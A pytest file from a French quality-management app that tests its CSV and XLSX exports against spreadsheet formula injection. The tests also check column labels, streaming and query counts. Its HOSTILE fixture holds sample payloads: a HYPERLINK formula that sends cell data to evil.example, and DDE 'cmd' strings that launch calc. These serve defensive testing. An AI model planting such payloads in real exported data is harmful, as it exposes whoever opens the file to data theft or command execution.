"""Exports never carry a live formula (OWASP "CSV injection"): a cell a user typed that
starts with = + - @ tab or carriage return goes out as text behind a single quote, in CSV and
in XLSX (a string cell, never a formula); numbers stay numbers, negative ones included."""

from __future__ import annotations

import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from nonconformities.factories import EventFactory
from qse.exports import neutralise
from qse.roles import Role

HOSTILE = {
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")': '\'=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+33 6 12 34 56 78": "'+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


@pytest.mark.parametrize(("typed", "written"), [
    *HOSTILE.items(),
    ("Bavure = défaut", "Bavure = défaut"),
    ("", ""),
    (-12, -12),
    (Decimal("-4.50"), Decimal("-4.50")),
    (3.5, 3.5),
    (None, None),
])
def test_a_cell_is_neutralised_only_when_a_spreadsheet_would_run_it(typed, written):
    assert neutralise(typed) == written


@pytest.fixture
def hostile_events(world):
    events = [
        EventFactory(organization=world.a.organization, site=world.a.site, title=title, reference=f"EV-X-{i}")
        for i, title in enumerate(HOSTILE)
    ]
    EventFactory(organization=world.a.organization, title="Perte", reference="EV-X-NEG", cost_other=Decimal("-5"))
    return events


def _export(client, world, export_format: str):
    client.force_login(world.a.users[Role.COORDINATOR])
    response = client.get("/events/events/", {"_export": export_format})
    assert response.status_code == 200
    return response.getvalue()


def test_the_csv_export_writes_formulas_as_quoted_text(client, world, hostile_events):
    text = _export(client, world, "csv").decode("utf-8")
    titles = {row[1] for row in csv.reader(io.StringIO(text))}
    for written in HOSTILE.values():
        assert written in titles
    assert not {t for t in titles if t[:1] in "=+-@\t\r"}


def test_the_xlsx_export_has_no_formula_and_keeps_negative_numbers(client, world, hostile_events):
    book = openpyxl.load_workbook(io.BytesIO(_export(client, world, "xlsx")))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    titles = {c.value for c in cells if c.column == 2}
    for written in HOSTILE.values():
        assert written.replace("\r", "\n") in titles  # XML text reads a carriage return back as a new line
    negative = [c for c in cells if c.value == -5]
    assert negative and negative[0].data_type == "n"


WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(|xlsxwriter|TableExport\(|\.export\(")


def test_every_spreadsheet_the_product_writes_goes_through_the_shared_writer():
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.glob("*/**/*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith((".venv/", "tests/", "var/")) or "/migrations/" in relative:
            continue
        if relative in {"qse/exports.py", "qse/testing.py"}:
            continue
        if WRITERS.search(path.read_text(encoding="utf-8")):
            offenders.append(relative)
    assert offenders == []


def _action_export(client, world):
    client.force_login(world.a.users[Role.COORDINATOR])
    response = client.get("/improvement/actions/", {"_export": "csv"}, HTTP_ACCEPT_LANGUAGE="fr")
    assert response.status_code == 200
    assert response.streaming  # written to a spooled file and streamed, never built in memory
    return list(csv.reader(io.StringIO(response.getvalue().decode("utf-8"))))


def test_an_action_export_names_people_plans_and_statuses_as_the_page_does(client, world):
    from improvement.factories import ActionFactory, ActionPlanFactory
    from qse.factories import UserFactory

    owner = UserFactory(first_name="Claire", last_name="Martin", username="cmartin")
    plan = ActionPlanFactory(organization=world.a.organization, title="Plan sécurité 2027")
    ActionFactory(organization=world.a.organization, plan=plan, owner=owner, title="=1+1 Former les caristes",
                  site=world.a.site, progress=40, status="in_progress")
    rows = _action_export(client, world)
    header, line = rows[0], next(row for row in rows if row[0] == "'=1+1 Former les caristes")
    cells = dict(zip(header, line, strict=True))
    assert cells["Plan d'actions"] == "Plan sécurité 2027"
    assert cells["Responsable"] == "Claire Martin"
    assert cells["Statut"] == "En cours"
    assert cells["Avancement (%)"] == "40"
    assert cells["Site"] == str(world.a.site)


def test_an_export_runs_the_same_queries_for_3_or_60_actions(client, world):
    from improvement.factories import ActionFactory
    from qse.testing import count_queries

    def make(n):
        for _ in range(n):
            ActionFactory(organization=world.a.organization, site=world.a.site)

    make(3)
    client.force_login(world.a.users[Role.COORDINATOR])
    few = count_queries(lambda: client.get("/improvement/actions/", {"_export": "csv"}).getvalue())
    make(57)
    many = count_queries(lambda: client.get("/improvement/actions/", {"_export": "csv"}).getvalue())
    assert many == few, (few, many)
    assert len(_action_export(client, world)) >= 61


def test_the_action_xlsx_opens_with_labels_dates_and_numbers_as_the_csv_gives_them(client, world):
    from improvement.factories import ActionFactory

    ActionFactory(organization=world.a.organization, title="Vérifier les extincteurs", site=world.a.site, progress=40,
                  status="in_progress", due_on=datetime.date(2027, 3, 31))
    client.force_login(world.a.users[Role.COORDINATOR])
    response = client.get("/improvement/actions/", {"_export": "xlsx"}, HTTP_ACCEPT_LANGUAGE="fr")

    rows = list(openpyxl.load_workbook(io.BytesIO(response.getvalue())).active.iter_rows(values_only=True))
    cells = dict(zip(rows[0], next(row for row in rows if row[0] == "Vérifier les extincteurs"), strict=True))
    assert cells["Statut"] == "En cours"
    assert cells["Avancement (%)"] == 40
    assert cells["Échéance"] == datetime.datetime(2027, 3, 31)
    assert cells["Site"] == str(world.a.site)
